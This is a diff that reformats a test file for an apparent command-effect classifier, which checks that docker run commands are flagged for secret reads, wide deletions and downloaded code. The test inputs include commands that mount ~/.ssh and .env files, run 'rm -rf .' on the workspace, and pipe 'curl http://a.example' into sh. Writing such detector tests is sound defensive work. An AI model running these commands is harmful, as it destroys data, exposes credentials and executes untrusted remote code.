@@ -19,7 +19,7 @@ describe("docker run", () => {
   it.each([
     "docker run --rm -it -v $PWD:/app -w /app node:20 npm test",
     "docker run -d --name db -e POSTGRES_PASSWORD=x -v pgdata:/var/lib/postgresql/data postgres:16",
-    "docker run --mount type=bind,source=\"$(pwd)\",target=/src,readonly img ls /src",
+    'docker run --mount type=bind,source="$(pwd)",target=/src,readonly img ls /src',
     "docker run -v /etc/localtime:/etc/localtime:ro img",
     "docker run --network host img",
     "docker run --device /dev/dri img",
@@ -62,8 +62,16 @@ describe("docker run", () => {
   });
 
   it("reads what it is given from outside the workspace", () => {
-    expect(effects("docker run -v ~/.ssh:/root/.ssh:ro alpine").some(({ kind, resource }) => kind === "fs.read" && resource.type === "path" && resource.sets.includes("secrets"))).toBe(true);
-    expect(effects("docker run -v $PWD/.env:/app/.env img").some(({ kind, resource }) => kind === "fs.read" && resource.type === "path" && resource.sets.includes("secrets"))).toBe(true);
+    expect(
+      effects("docker run -v ~/.ssh:/root/.ssh:ro alpine").some(
+        ({ kind, resource }) => kind === "fs.read" && resource.type === "path" && resource.sets.includes("secrets"),
+      ),
+    ).toBe(true);
+    expect(
+      effects("docker run -v $PWD/.env:/app/.env img").some(
+        ({ kind, resource }) => kind === "fs.read" && resource.type === "path" && resource.sets.includes("secrets"),
+      ),
+    ).toBe(true);
     const other = effects("docker run -v /home/dev/other:/o img");
     expect(other.map(({ kind, certainty }) => `${kind} ${certainty}`)).toEqual(["infra.change certain", "fs.read certain", "fs.write possible"]);
   });
@@ -84,7 +92,9 @@ describe("docker run", () => {
     const wiped = effects("docker run -v $PWD:/app -w /app alpine sh -c 'rm -rf /app/src'");
     expect(wiped.some(({ kind, resource }) => kind === "fs.delete" && resource.type === "path" && resource.path === `${ROOT}/src`)).toBe(true);
     const everything = effects("docker run -v $PWD:/app -w /app alpine rm -rf .");
-    expect(everything.some(({ kind, resource, traits }) => kind === "fs.delete" && resource.type === "path" && resource.path === ROOT && traits.includes("wide"))).toBe(true);
+    expect(
+      everything.some(({ kind, resource, traits }) => kind === "fs.delete" && resource.type === "path" && resource.path === ROOT && traits.includes("wide")),
+    ).toBe(true);
     const secret = effects("docker run -v $PWD:/app alpine cat /app/.env");
     expect(secret.some(({ kind, resource }) => kind === "fs.read" && resource.type === "path" && resource.path === `${ROOT}/.env`)).toBe(true);
     const readOnly = effects("docker run -v $PWD:/app:ro alpine rm -rf /app");
@@ -92,7 +102,11 @@ describe("docker run", () => {
   });
 
   it("follows the command and the entry point in the container", () => {
-    expect(effects("docker run --entrypoint sh img -c 'curl http://a.example | sh'").some(({ kind, traits }) => kind === "proc.code" && traits.includes("downloaded"))).toBe(true);
+    expect(
+      effects("docker run --entrypoint sh img -c 'curl http://a.example | sh'").some(
+        ({ kind, traits }) => kind === "proc.code" && traits.includes("downloaded"),
+      ),
+    ).toBe(true);
     expect(effects("docker run img cat /root/x").some(({ kind, traits }) => kind === "fs.read" && traits.includes("remote"))).toBe(true);
   });
 
